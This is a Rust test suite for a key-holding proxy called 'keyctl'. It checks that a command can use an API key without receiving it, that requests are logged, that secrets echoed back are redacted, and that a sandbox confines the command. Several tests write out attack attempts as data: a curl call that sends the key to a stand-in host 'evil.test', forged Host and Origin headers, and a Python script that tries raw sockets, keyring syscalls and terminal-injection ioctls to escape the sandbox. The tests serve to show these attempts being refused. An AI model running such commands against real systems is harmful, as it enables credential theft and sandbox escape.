//! A command that uses keys without holding them: what it gets instead, where the keys go, and where they do not.

use std::{
    io::{BufRead, BufReader},
    process::{Child, Command, Stdio},
    sync::LazyLock,
};

use serde_json::{Value, json};

use crate::{
    sandbox::{Sandbox, contains},
    tools,
};

/// A key that no issuer's looks like.
pub const SECRET: &str = "real-secret-0123456789-abcdefghij";

/// The API that is behind the proxy.
pub struct Upstream {
    pub folder: tempfile::TempDir,
    pub port: u16,
    _child: Child,
}

pub static UPSTREAM: LazyLock<Upstream> = LazyLock::new(|| {
    let folder = tempfile::tempdir().expect("folder");
    let mut command = Command::new("python3");
    command.arg(tools::root().join("tests/suite/upstream.py")).arg(folder.path());
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
    let mut child = command.spawn().expect("python3");
    let mut line = String::new();
    BufReader::new(child.stdout.take().expect("piped")).read_line(&mut line).expect("a port");
    Upstream { port: line.trim().parse().expect("a port"), folder, _child: child }
});

impl Upstream {
    /// What every rule for it says beside its host.
    pub(crate) fn there(&self) -> String {
        let ca = self.folder.path().join("ca.pem");
        format!("address = \"127.0.0.1:{}\"\nca = \"{}\"\n", self.port, ca.display())
    }
}

/// A store with one key, and a rule for it with `more` in it.
pub fn sandbox(more: &str) -> Sandbox {
    let sandbox = Sandbox::with(&[("KEY", SECRET)]);
    rule(&sandbox, "", more);
    sandbox
}

pub fn rule(sandbox: &Sandbox, egress: &str, more: &str) {
    let there = UPSTREAM.there();
    sandbox.configure(&format!(
        "[proxy]\n{egress}\n[[proxy.rules]]\nsecret = \"KEY\"\ndomain = \"api.test\"\n{there}{more}\n"
    ));
}

pub const KEPT_BACK: &str = "keyctl: `KEY` is kept back and goes to `api.test` alone (CONNECT)\n";
pub const BY_BASE_URL: &str = "keyctl: `KEY` is kept back and goes to `api.test` alone (base URL)\n";
pub const BASE_URL: &str = "base_url = { API = \"\" }\n";

/// What a shell script gets to say, by the proxy; it must end well.
#[track_caller]
pub fn said(sandbox: &Sandbox, script: &str, stderr: &str) -> String {
    let ran = sandbox.call(&["proxy", "run", "-k", "KEY", "--", "sh", "-c", script]).run();
    sandbox.no_secret_in(&ran.output.stdout);
    assert_eq!((ran.stderr().as_str(), ran.code()), (stderr, 0), "{}", ran.stdout());
    ran.stdout()
}

pub fn hash(text: &str) -> String {
    let mut command = Command::new("sha256sum");
    command.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().expect("sha256sum");
    std::io::Write::write_all(&mut child.stdin.take().expect("piped"), text.as_bytes()).expect("write");
    let output = child.wait_with_output().expect("wait");
    String::from_utf8_lossy(&output.stdout)[..64].to_owned()
}

pub(crate) fn parsed(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|_| panic!("no JSON: {text}"))
}

/// What the history has of requests, without what differs each time.
pub fn requests(sandbox: &Sandbox) -> Vec<String> {
    let ran = sandbox.call(&["history", "--json"]).run();
    let lines = ran.stdout();
    let events = lines.lines().map(parsed).filter(|event| event["ev"] == "proxy");
    let one = |event: Value| {
        let names = event["names"].as_array().map(Vec::len).unwrap_or_default();
        format!(
            "{} {} {names}",
            event["note"].as_str().unwrap_or_default(),
            event["outcome"].as_str().unwrap_or_default()
        )
    };
    events.map(one).collect()
}

#[test]
fn a_command_uses_a_key_that_it_does_not_hold_and_each_request_is_written_down() {
    let sandbox = sandbox("");
    let out = said(
        &sandbox,
        "echo $KEY; curl -sS https://api.test/v1/things/12345 -H \"authorization: Bearer $KEY\"",
        KEPT_BACK,
    );
    let (placeholder, answer) = out.split_once('\n').expect("two lines");
    assert!(placeholder.starts_with("keyctl") && placeholder.len() == 38, "{placeholder}");
    assert_eq!(
        parsed(answer),
        json!({ "path": "/v1/things/12345", "method": "GET", "size": 0, "host": "api.test", "seen": { "authorization": hash(&format!("Bearer {SECRET}")) } })
    );
    assert_eq!(requests(&sandbox), ["GET api.test/v1/things/{id} 200 1"]);
    let shown = sandbox.call(&["history", "-n", "2"]).run().stdout();
    assert!(
        shown.contains("run (by the proxy)") && shown.contains("proxy (GET api.test/v1/things/{id}: 200: "),
        "{shown}"
    );
}

#[test]
fn a_library_is_led_by_a_variable_and_needs_no_certificate() {
    let sandbox = sandbox(BASE_URL);
    let out = said(
        &sandbox,
        "curl -sS --noproxy '*' $API/seen -H \"x-api-key: $KEY\"; echo; curl -sS -o /dev/null -w '%{redirect_url} ' $API/home $API/away $API/downgrade -H \"x-api-key: $KEY\"; echo $API",
        BY_BASE_URL,
    );
    let mut lines = out.lines();
    assert_eq!(parsed(lines.next().expect("a line"))["seen"], json!({ "x-api-key": hash(SECRET) }));
    let led = lines.next().expect("a line").split(' ').collect::<Vec<_>>();
    assert_eq!(led[0], format!("{}/seen?x=1", led[3]), "to itself by the proxy");
    assert_eq!(led[1], "https://evil.test/seen", "to another host without");
    assert_eq!(led[2], "http://api.test/seen", "nor in the clear");
}

#[test]
fn a_placeholder_that_is_sent_to_another_host_is_refused_and_its_owner_is_told() {
    let poisoned = "curl -sS -w ' %{http_code}' https://evil.test/v1/chat -H \"authorization: Bearer $KEY\"";
    let refused = "keyctl: refused a request of `KEY` for `evil.test`: a host that the key is not for\n";
    for egress in ["", "egress = \"permissive\""] {
        let sandbox = sandbox("");
        rule(&sandbox, egress, "");
        let out = said(&sandbox, poisoned, &format!("{KEPT_BACK}{refused}"));
        assert_eq!(out, "keyctl: refused: a host that the key is not for; nothing was sent, and this is noted\n 403");
        let alerts = sandbox.call(&["alerts", "list", "--json"]).run().stdout();
        assert!(alerts.contains("refused") && alerts.contains("evil.test"), "{alerts}");
        let events = sandbox.call(&["history", "--json"]).run().stdout();
        let failed = events.lines().map(parsed).find(|event| event["ev"] == "failed").expect("an entry");
        assert_eq!(failed["outcome"], "refused: a host that the key is not for: `evil.test`");
        assert_eq!((&failed["names"], &failed["host"]), (&json!(["KEY"]), &json!("evil.test")));
    }
}

#[test]
fn a_strict_run_reaches_the_hosts_of_its_rules_alone_and_no_key_but_its_own_goes_there() {
    let sandbox = sandbox("");
    let status = "curl -sS -o /dev/null -w '%{http_code} '";
    let script = format!(
        "{status} https://other.test/; {status} http://other.test/; {status} https://api.test/free; \
         {status} https://api.test/x -H 'authorization: Bearer of-somebody'; {status} http://api.test/x -H \"x-api-key: $KEY\""
    );
    let clear = "keyctl: refused a request of `KEY` for `api.test:80`: a host that the key is not for\n";
    let own = "keyctl: refused a request for `api.test`: a key that is not of this run\n";
    let out = said(&sandbox, &script, &format!("{KEPT_BACK}{own}{clear}"));
    assert_eq!(out, "403 403 200 403 403 ");
    assert_eq!(
        requests(&sandbox),
        [
            "GET other.test/ refused: a host without a rule 0",
            "GET other.test:80/ refused: a host without a rule 0",
            "GET api.test/free 200 0",
        ]
    );
}

#[test]
fn whoever_has_not_the_token_or_comes_from_a_web_page_gets_nothing() {
    let sandbox = sandbox(BASE_URL);
    let script = r#"
        plain="${API%/*/*}"; status() { curl -sS --noproxy '*' -o /dev/null -w '%{http_code} ' -H "x-api-key: $KEY" "$@"; }
        status "$plain/0123456789abcdef0123456789abcdef/api.test/x"; status "$plain/"; status "$API/x" -H 'Host: rebound.test'
        status "$API/x" -H 'Origin: http://rebound.test'; curl -sS --noproxy '*' -o /dev/null -w '%{http_code} ' "$API/x" -H 'x-api-key: none'; status "$API-2/x"
        curl -sS -o /dev/null -w '%{http_connect} ' -x "http://keyctl:wrong@${plain#http://}" https://api.test/ 2>/dev/null
        curl -sS -o /dev/null -w '%{http_connect} ' -x "$plain" https://api.test/ 2>/dev/null; true"#;
    assert_eq!(said(&sandbox, script, BY_BASE_URL), "401 401 403 403 401 403 407 407 ");
    let all = requests(&sandbox);
    assert!(all.iter().filter(|one| one.contains("refused: no token of this run")).count() == 3, "{all:?}");
    assert!(all.iter().any(|one| one.contains("refused: from a web page")), "{all:?}");
}

#[test]
fn a_secret_that_comes_back_is_taken_out_of_headers_and_bodies_also_where_it_comes_in_pieces() {
    let sandbox = sandbox("");
    let script = "curl -sSi https://api.test/reflect -H \"authorization: Bearer $KEY\"; curl -sS https://api.test/pieces -H \"authorization: Bearer $KEY\"";
    let out = said(&sandbox, script, KEPT_BACK);
    assert!(out.contains("x-reflected: [keyctl:KEY]\r\n"), "{out}");
    assert!(out.contains("\"Bearer [keyctl:KEY]\""), "{out}");
    assert!(out.ends_with("before [keyctl:KEY] between [keyctl:KEY]|[keyctl:KEY] after"), "{out}");
    assert!(out.contains("x-reflected") && !out.contains("\nx-real-secret"), "{out}");
    // Behind the end of a body, and in what a host answers to a request without it.
    let script =
        "get() { curl -sS --http1.1 --raw -H 'TE: trailers' https://api.test/$1 -H \"authorization: Bearer $KEY\" | tail -n 3; }
        get trailers; get grpc; get keep/one >/dev/null; curl -sS https://api.test/kept/one";
    let out = said(&sandbox, script, KEPT_BACK).replace('\r', "");
    assert!(out.contains("x-echo: [keyctl:KEY]\n") && out.contains("grpc-message: [keyctl:KEY]\n"), "{out}");
    assert!(out.ends_with("{\"kept\": \"[keyctl:KEY]\"}"), "{out}");
}

#[test]
fn streams_pass_as_they_come_and_bodies_of_any_size_do() {
    let sandbox = sandbox(BASE_URL);
    let script = r#"
        python3 - <<'PYTHON'
import os, time, urllib.request
begin = time.monotonic()
request = urllib.request.Request(os.environ["API"] + "/slow", headers={"x-api-key": os.environ["KEY"]})
with urllib.request.urlopen(request) as answer:
    print([round(time.monotonic() - begin, 1) < 0.25 + 0.3 * number for number in range(3) if answer.readline() and answer.readline()])
PYTHON
        head -c 30000000 /dev/zero | curl -sS -T - "$API/upload" -H "x-api-key: $KEY" -w ' %{http_code}
' | cut -c 1-18
        head -c 3000000 /dev/zero | curl -sS -X POST --data-binary @- "$API/upload" -H "x-api-key: $KEY" -H 'Expect: 100-continue' | cut -c 1-17; echo
        curl -sS "$API/download" -H "x-api-key: $KEY" | wc -c
        curl -sS --raw -H 'TE: trailers' "$API/trailers" -H "x-api-key: $KEY" | tr '\r\n' ' ' "#;
    let out = said(&sandbox, script, BY_BASE_URL);
    let lines: Vec<&str> = out.lines().filter(|line| !line.is_empty()).collect();
    assert_eq!(lines[..4], ["[True, True, True]", "{\"size\": 30000000,", "{\"size\": 3000000,", "50000000"], "{out}");
    assert!(lines[4].contains("x-after: yes"), "{out}");
    let cut = sandbox.call(&["history", "--json"]).run().stdout();
    let uploads: Vec<Value> = cut.lines().map(parsed).filter(|event| event["path"] == "/upload").collect();
    assert_eq!((&uploads[0]["sent"], &uploads[1]["sent"]), (&json!(30_000_000), &json!(3_000_000)));
}

#[test]
fn a_websocket_passes_with_its_key() {
    let sandbox = sandbox(BASE_URL);
    let script = r#"python3 - <<'PYTHON'
import os, socket
host, path = os.environ["API"].removeprefix("http://").split("/", 1)
name, port = host.split(":")
end = socket.create_connection((name, int(port)))
head = [f"GET /{path}/ws HTTP/1.1", f"Host: {host}", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Authorization: Bearer " + os.environ["KEY"], "", ""]
end.sendall("\r\n".join(head).encode())
reader = end.makefile("rb")
print(reader.readline().split()[1].decode(), end=" ")
while reader.readline().strip():
    pass
text = b"hello"
end.sendall(bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text)
print(reader.read(reader.read(2)[1]).decode())
PYTHON
curl -sS -o /dev/null -w '%{http_code}' --noproxy '*' "$API/x" -H "x-api-key: $KEY" -H 'Connection: upgrade' -H 'Upgrade: other'"#;
    assert_eq!(
        said(&sandbox, script, BY_BASE_URL),
        format!("101 hello {}\n501", &hash(&format!("Bearer {SECRET}"))[..8])
    );
}

#[test]
fn what_a_rule_says_holds_and_a_budget_holds_for_all_runs_together() {
    let more = "methods = [\"GET\"]\npaths = [\"/v1/*\"]\nlimit = [\"2/h\", \"100/day\"]\nheader = \"x-api-key\"\n";
    let sandbox = sandbox(&format!("{BASE_URL}{more}"));
    let status = "curl -sS --noproxy '*' -o /dev/null -w '%{http_code} '";
    let script = format!(
        "{status} -X POST $API/v1/x -H \"x-api-key: $KEY\"; {status} $API/v2/x -H \"x-api-key: $KEY\"; \
         {status} --path-as-is $API/v1/../v2/x -H \"x-api-key: $KEY\"; {status} $API/v1/x -H \"authorization: Bearer $KEY\"; \
         for n in 1 2 3; do {status} $API/v1/x -H \"x-api-key: $KEY\"; done"
    );
    assert_eq!(said(&sandbox, &script, BY_BASE_URL), "403 403 403 403 200 200 429 ");
    let again = format!("{status} -D - $API/v1/x -H \"x-api-key: $KEY\" | grep -c '^retry-after: 3[56]'");
    assert_eq!(said(&sandbox, &again, BY_BASE_URL), "1\n", "what another run used up counts");
    let small = self::sandbox(&format!("{BASE_URL}max_body = \"1KB\"\n"));
    let script = format!(
        "head -c 1001 /dev/zero | {status} --data-binary @- $API/upload -H \"x-api-key: $KEY\"; \
         head -c 2000000 /dev/zero | {status} -T - $API/upload -H \"x-api-key: $KEY\" >/dev/null 2>&1; \
         head -c 1000 /dev/zero | {status} -T - $API/upload -H \"x-api-key: $KEY\""
    );
    assert_eq!(said(&small, &script, BY_BASE_URL), "413 200 ");
    assert_eq!(
        requests(&small),
        [
            "POST api.test/upload refused: too large 1",
            "PUT api.test/upload refused: too large 1",
            "PUT api.test/upload 200 1"
        ]
    );
}

#[test]
fn freezing_replacing_and_revoking_hold_for_a_proxy_that_runs() {
    let sandbox = sandbox(BASE_URL);
    sandbox.secret("another-secret-9876543210-zyxwvu");
    let script = format!(
        r#"status() {{ curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}} ' "$API/x" -H "x-api-key: $KEY"; }}
        status; {0} -q proxy freeze KEY; status; {0} -q proxy unfreeze KEY; status
        printf another-secret-9876543210-zyxwvu | {0} -q set KEY --replace; sleep 0.7
        curl -sS --noproxy '*' "$API/x" -H "x-api-key: $KEY" | grep -o '"x-api-key": "[0-9a-f]*"'
        {0} -q revoke KEY --yes 2>/dev/null; sleep 0.7; status"#,
        crate::sandbox::KEYCTL
    );
    let frozen = "keyctl: refused a request of `KEY` for `api.test`: frozen\n";
    let revoked = "keyctl: refused a request of `KEY` for `api.test`: revoked\n";
    let ran = sandbox.call(&["proxy", "run", "-k", "KEY", "--", "sh", "-c", &script]).run();
    let new = hash("another-secret-9876543210-zyxwvu");
    assert_eq!(ran.stdout(), format!("200 403 200 \"x-api-key\": \"{new}\"\n403 "), "{}", ran.stderr());
    for part in [BY_BASE_URL, frozen, revoked] {
        assert!(ran.stderr().contains(part), "{}", ran.stderr());
    }
}

#[test]
fn what_is_frozen_stays_so_with_the_stores_next_identity_and_under_the_keys_next_name() {
    let sandbox = sandbox("");
    sandbox.set("OTHER", "plain-secret-of-another-key").says("", "keyctl: kept `OTHER`\n", 0);
    let there = UPSTREAM.there();
    let rules = ["KEY", "OTHER", "NEW"]
        .map(|key| format!("[[proxy.rules]]\nsecret = \"{key}\"\ndomain = \"api.test\"\n{there}"));
    sandbox.configure(&rules.concat());
    let status = |key: &str| {
        let script =
            format!("curl -sS -o /dev/null -w '%{{http_code}}' https://api.test/x -H \"authorization: Bearer ${key}\"");
        sandbox.call(&["-q", "proxy", "run", "-k", key, "--", "sh", "-c", &script]).run().stdout()
    };
    sandbox.call(&["-q", "proxy", "freeze", "KEY"]).run().says("", "", 0);
    assert_eq!(sandbox.call(&["-q", "store", "rekey", "--yes"]).run().code(), 0);
    assert_eq!([status("KEY"), status("OTHER")], ["403", "200"]);
    sandbox.call(&["-q", "rename", "KEY", "NEW"]).run().says("", "", 0);
    assert_eq!(status("NEW"), "403");
    sandbox.call(&["-q", "proxy", "unfreeze", "NEW"]).run().says("", "", 0);
    assert_eq!(status("NEW"), "200");
}

#[test]
fn the_proxies_that_run_are_listed_with_what_they_did_and_a_dead_one_is_not() {
    let sandbox = sandbox("");
    let folder = sandbox.data("proxies");
    let script = format!(
        r#"curl -sS -o /dev/null https://api.test/x -H "authorization: Bearer $KEY"; curl -sS -o /dev/null https://other.test/
        sleep 0.6; {0} proxy status --json; stat -c %a {1} {1}/*; cat {1}/* | grep -c -e KEY -e curl; cat {1}/*.lock; echo " $PPID"
        {0} proxy status"#,
        crate::sandbox::KEYCTL,
        folder.display()
    );
    let out = said(&sandbox, &script, KEPT_BACK);
    let (report, rest) =
        out.split_once("\n}\n").map(|(report, rest)| (format!("{report}\n}}"), rest)).expect("a report");
    let words = ["proxy", "status", "--json"].map(str::to_owned);
    crate::schemas::hold(&words, report.as_bytes());
    let mut proxy = parsed(&report)["proxies"][0].clone();
    let process = proxy["process"].take();
    assert!(proxy["since"].take().is_string());
    assert_eq!(
        proxy,
        json!({ "process": null, "program": "sh", "since": null, "keys": ["KEY"], "requests": 2, "refused": 1 })
    );
    let lines: Vec<&str> = rest.lines().collect();
    assert_eq!(lines[..6], ["700", "600", "600", "600", "0", &format!("{process} {process}")], "{rest}");
    let columns = |line: &str| line.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(columns(lines[6]), ["PROCESS", "COMMAND", "SINCE", "REQUESTS", "REFUSED", "KEYS"]);
    let row = columns(lines[7]);
    assert_eq!(
        (&row[..2], &row[row.len() - 3..]),
        (&[process.to_string(), "sh".to_owned()][..], &["2", "1", "KEY"].map(str::to_owned)[..])
    );
    assert!(!folder.exists(), "nothing is left");
    let none = || sandbox.call(&["proxy", "status"]).run().says("", "keyctl: no proxy runs here\n", 0);
    none();
    // Killed, it leaves what the next look takes away.
    sandbox.call(&["proxy", "run", "-k", "KEY", "--", "sh", "-c", "kill -9 $PPID"]).run();
    assert_eq!(std::fs::read_dir(&folder).expect("left").count(), 2);
    none();
    assert!(!folder.exists());
    sandbox.call(&["proxy", "status", "--json"]).run().says("{\n  \"proxies\": []\n}\n", "", 0);
}

#[test]
fn what_becomes_of_one_key_holds_though_another_is_gone_from_the_store() {
    let sandbox = sandbox(BASE_URL);
    sandbox.set("OTHER", "plain-secret-of-another-key").says("", "keyctl: kept `OTHER`\n", 0);
    let there = UPSTREAM.there();
    sandbox.configure(&format!("[[proxy.rules]]\nsecret = \"*\"\ndomain = \"api.test\"\n{there}"));
    let script = format!(
        r#"status() {{ curl -sS -o /dev/null -w '%{{http_code}} ' https://api.test/x -H "x-api-key: $KEY"; }}
        status; {0} -q remove OTHER --yes; sleep 0.7; status; {0} -q revoke KEY --yes 2>/dev/null; sleep 0.7; status
        curl -sS -o /dev/null -w '%{{http_code}}' -X OPTIONS --request-target '*' https://api.test/x -H "x-api-key: $KEY""#,
        crate::sandbox::KEYCTL
    );
    let ran = sandbox.call(&["-q", "proxy", "run", "-k", "KEY", "-k", "OTHER", "--", "sh", "-c", &script]).run();
    assert_eq!(ran.stdout(), "200 200 403 501", "{}", ran.stderr());
}

#[test]
fn a_key_that_is_for_the_proxy_alone_goes_by_it_without_being_told_and_nowhere_without_a_rule() {
    let sandbox = sandbox("");
    sandbox.set("OTHER", "plain-secret-of-another-key").says("", "keyctl: kept `OTHER`\n", 0);
    sandbox.call(&["edit", "KEY", "--proxy-only", "-q"]).run().says("", "", 0);
    let script = "curl -sS https://api.test/x -H \"authorization: Bearer $KEY\" | grep -o '[0-9a-f]\\{64\\}'; test $OTHER = plain-secret-of-another-key && env | grep -c real-secret";
    let ran = sandbox.call(&["run", "-k", "KEY", "-k", "OTHER", "--", "sh", "-c", script]).run();
    ran.says(&format!("{}\n0\n", hash(&format!("Bearer {SECRET}"))), KEPT_BACK, 1);
    sandbox.configure("");
    sandbox.call(&["run", "-k", "KEY", "--", "true"]).run().says(
        "",
        "keyctl: not given: `KEY` is for the proxy alone, as the store says [E09]\nkeyctl: hint: to change that, at a terminal: `keyctl edit KEY --no-proxy-only`\n",
        125,
    );
    sandbox.call(&["get", "KEY", "--show"]).run().says(
        "",
        "keyctl: not given: `KEY` is for the proxy alone, as the store says\nkeyctl: hint: to change that, at a terminal: `keyctl edit KEY --no-proxy-only`\n",
        9,
    );
}

#[test]
fn a_key_without_a_rule_is_named_and_given_only_where_that_was_said() {
    let sandbox = sandbox("");
    sandbox.set("OTHER", "plain-secret-of-another-key").says("", "keyctl: kept `OTHER`\n", 0);
    let keys = ["proxy", "run", "-k", "KEY", "-k", "OTHER"];
    sandbox.call(&[&keys[..], &["--", "true"]].concat()).run().says(
        "",
        "keyctl: the proxy cannot keep `OTHER`: no rule says where it goes [E09]\nkeyctl: hint: say where it goes: `[[proxy.rules]]` in `config.toml`, see `keyctl proxy rules --help`\nkeyctl: hint: leave it out with `--only`, or give it as it is: `--unprotected`\n",
        125,
    );
    let test = ["--unprotected", "--", "sh", "-c", "test $OTHER = plain-secret-of-another-key; exit $((3 + $?))"];
    let warned = "keyctl: given as it is, as no rule says where it goes: `OTHER`\n";
    sandbox.call(&[&keys[..], &test].concat()).run().says("", &format!("{warned}{KEPT_BACK}"), 3);
    sandbox.call(&["proxy", "run", "-k", "KEY", "--watch", "--", "true"]).run().says(
        "",
        "keyctl: `--watch` cannot stand beside the proxy, which uses a replaced key from the next request on [E02]\nkeyctl: hint: leave out `--watch`\n",
        125,
    );
}

#[test]
fn the_proxy_ends_with_its_command_and_a_host_that_fails_is_answered_for() {
    let sandbox = sandbox(BASE_URL);
    let status = "curl -sS --noproxy '*' -o /dev/null -w '%{http_code} '";
    let out =
        said(&sandbox, &format!("{status} $API/reset -H \"x-api-key: $KEY\"; echo $API $SSL_CERT_FILE"), BY_BASE_URL);
    let words: Vec<&str> = out.split_whitespace().collect();
    assert_eq!(words[0], "502");
    let host = words[1].trim_start_matches("http://").split('/').next().expect("a host");
    assert!(std::net::TcpStream::connect(host).is_err(), "{host}");
    assert!(!std::path::Path::new(words[2]).exists());
    // Nobody vouches for it but the rule's own authority.
    sandbox.configure(&format!(
        "[[proxy.rules]]\nsecret = \"KEY\"\ndomain = \"api.test\"\naddress = \"127.0.0.1:{}\"\n{BASE_URL}",
        UPSTREAM.port
    ));
    assert_eq!(said(&sandbox, &format!("{status} $API/x -H \"x-api-key: $KEY\""), BY_BASE_URL), "502 ");
}

#[test]
fn git_pip_and_npm_use_a_key_that_they_do_not_hold() {
    let sandbox = sandbox("");
    let script = r#"
        printf '#!/bin/sh\necho "$KEY"\n' > ask; chmod 755 ask
        GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0 GIT_ASKPASS=$PWD/ask git ls-remote https://x-access-token@api.test/repo.git | cut -c 1-8
        PY -m pip download -q --no-deps --no-input --disable-pip-version-check -i "https://me:$KEY@api.test/simple/" nothing 2>&1 | grep -o 'No matching distribution'
        printf '//api.test/:_authToken=${KEY}\n' > .npmrc
        npm whoami --registry https://api.test/ --userconfig .npmrc 2>&1 | tail -n 1"#;
    let python = tools::python();
    let script = script.replace("PY", &python.display().to_string());
    let out = said(&sandbox, &script, KEPT_BACK);
    let npm = hash(&format!("Bearer {SECRET}"));
    assert_eq!(out, format!("11111111\nNo matching distribution\n{}\n", &npm[..12]));
    let all = requests(&sandbox);
    assert!(all.contains(&"GET api.test/repo.git/info/refs 200 1".to_owned()), "{all:?}");
    assert!(all.contains(&"GET api.test/simple/nothing/ 200 1".to_owned()), "{all:?}");
    assert!(all.contains(&"GET api.test/-/whoami 200 1".to_owned()), "{all:?}");
}

#[test]
fn the_rules_are_shown_and_a_wrong_one_is_said() {
    let sandbox = sandbox("limit = \"5/s\"\n");
    let shown = sandbox.call(&["proxy", "rules"]).run();
    let first: Vec<String> =
        shown.stdout().lines().take(2).map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect();
    assert_eq!(first, ["KEY RULE HOSTS WAY LIMITS", "KEY api.test api.test CONNECT 5/s"]);
    let json = parsed(&sandbox.call(&["proxy", "rules", "--json"]).run().stdout());
    assert_eq!((&json["egress"], &json["rules"][0]["limit"]), (&json!("strict"), &json!(["5/s"])));
    sandbox.configure("[[proxy.rules]]\nsecret = \"KEY\"\npreset = \"nobody\"\n");
    let ran = sandbox.call(&["proxy", "rules"]).run();
    assert!(ran.stderr().starts_with("keyctl: `config.toml`: there is no preset `nobody`\n"), "{}", ran.stderr());
    sandbox.configure("[proxy]\negress = \"open\"\n[[proxy.rules]]\nsecret = \"KEY\"\ndomain = \"https://api.test\"\nmax_body = \"1\"\n");
    let ran = sandbox.call(&["proxy", "rules"]).run();
    assert_eq!(
        ran.stderr(),
        "keyctl: `~/.config/keyctl/config.toml`, line 2, column 10: this is either `strict` or `permissive`\nkeyctl: hint: also line 5, column 10: `https://api.test` is no host: `api.example.com`, `*.example.com`, `localhost:8443`\nkeyctl: hint: also line 6, column 12: `1` is no size: `500KB`, `10MB`, `1GB`\n"
    );
    assert!(!contains(ran.stdout().as_bytes(), SECRET.as_bytes()));
}

#[test]
fn a_command_in_its_sandbox_reaches_the_proxy_and_nothing_beside_it() {
    let sandbox = sandbox(BASE_URL);
    let script = format!(
        r#"
        curl -sS --noproxy '*' -o /dev/null -w '%{{http_code}}\n' "$API/x" -H "x-api-key: $KEY"
        cat ~/.local/share/keyctl/identity.txt; ls ~/.config/keyctl; {0} get KEY --show; echo text > here; cat here; kill -0 $PPID 2>/dev/null; echo $?
        python3 - <<'PYTHON'
import ctypes, fcntl, os, socket, sys
def tries(what, act):
    try:
        act()
        print(what, "reached")
    except OSError as error:
        print(what, error.strerror)
tries("tcp", lambda: socket.create_connection(("127.0.0.1", {1}), 2))
tries("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
tries("bus", lambda: socket.socket(socket.AF_UNIX))
tries("multipath", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
tries("settings", lambda: open(os.path.expanduser("~/.config/keyctl/config.toml"), "a"))
tries("listening", lambda: socket.socket().bind(("127.0.0.1", 0)))
tries("unbound", lambda: socket.socket().listen())
tries("pair", lambda: socket.socketpair())
tries("typing", lambda: fcntl.ioctl(0, 0x5412, b"x"))
libc = ctypes.CDLL(None, use_errno=True)
print("keyring", libc.syscall(250, 0, -3, 0) == -1 and os.strerror(ctypes.get_errno()))
end = socket.socket()
tries("fast", lambda: end.sendto(b"x", 0x20000000, ("127.0.0.1", {1})))
PYTHON
        exit 7"#,
        crate::sandbox::KEYCTL,
        UPSTREAM.port
    );
    let ran = sandbox.call(&["proxy", "run", "--sandbox", "-k", "KEY", "--", "sh", "-c", &script]).run();
    sandbox.no_secret_in(&ran.output.stdout);
    assert_eq!(
        ran.stdout(),
        "200\nconfig.toml\ntext\n1\ntcp Permission denied\nudp Operation not permitted\nbus Operation not permitted\nmultipath Operation not permitted\n\
         settings Permission denied\nlistening Permission denied\nunbound Operation not permitted\npair reached\ntyping Operation not permitted\nkeyring Operation not permitted\nfast Operation not permitted\n",
        "{}",
        ran.stderr()
    );
    assert_eq!(ran.code(), 7);
    assert!(ran.stderr().contains("identity.txt: Permission denied"), "{}", ran.stderr());
    let doctor = sandbox.call(&["doctor"]).run().stdout();
    let row = doctor.lines().find(|line| line.contains(" sandbox ")).unwrap_or_default();
    assert_eq!(
        row.split_once('`').map(|(_, seen)| seen),
        Some("proxy run --sandbox` can confine a command: Landlock 6, seccomp, and a network of its own")
    );
}

/// The issuers' own libraries, for Python and for Node; they take too long to install for a commit.
#[test]
#[ignore = "tests/long installs what it needs"]
fn the_issuers_own_libraries_stream_by_either_way_in() {
    let installed =
        std::env::var_os("KEYCTL_TEST_SDKS").map_or_else(|| tools::root().join("target/tools/sdks"), Into::into);
    let sandbox = sandbox("base_url = { OPENAI_BASE_URL = \"/v1\", ANTHROPIC_BASE_URL = \"\" }\n");
    let python = r#"
import os, time
import anthropic, openai
for lead in (True, False):
    base = {} if lead else {"base_url": "https://api.test/v1"}
    client, begin, times = openai.OpenAI(api_key=os.environ["KEY"], max_retries=0, **base), time.monotonic(), []
    text = []
    for piece in client.chat.completions.create(model="m", messages=[{"role": "user", "content": "x"}], stream=True):
        times.append(time.monotonic() - begin)
        text.append(piece.choices[0].delta.content)
    print("".join(text), times[2] - times[0] > 0.3)
    base = {} if lead else {"base_url": "https://api.test"}
    client = anthropic.Anthropic(api_key=os.environ["KEY"], max_retries=0, **base)
    with client.messages.stream(model="m", max_tokens=9, messages=[{"role": "user", "content": "x"}]) as stream:
        print("".join(stream.text_stream))
"#;
    let node = r#"
import OpenAI from "openai";
import Anthropic from "@anthropic-ai/sdk";
let text = "";
for await (const piece of await new OpenAI({ apiKey: process.env.KEY, maxRetries: 0 }).chat.completions.create({ model: "m", messages: [], stream: true }))
  text += piece.choices[0].delta.content;
console.log(text);
text = "";
for await (const event of await new Anthropic({ apiKey: process.env.KEY, maxRetries: 0 }).messages.create({ model: "m", max_tokens: 9, messages: [], stream: true }))
  text += event.delta?.text ?? "";
console.log(text);
"#;
    sandbox.file("use.py", python);
    sandbox.file("use.mjs", node);
    let script = format!(
        "{0}/python/bin/python use.py && ln -s {0}/node/node_modules node_modules && node use.mjs",
        installed.display()
    );
    let seen = &hash(&format!("Bearer {SECRET}"))[..8];
    let expected = format!("{seen} one two True\nhello there\n").repeat(2) + &format!("{seen} one two\nhello there\n");
    assert_eq!(said(&sandbox, &script, BY_BASE_URL), expected);
}
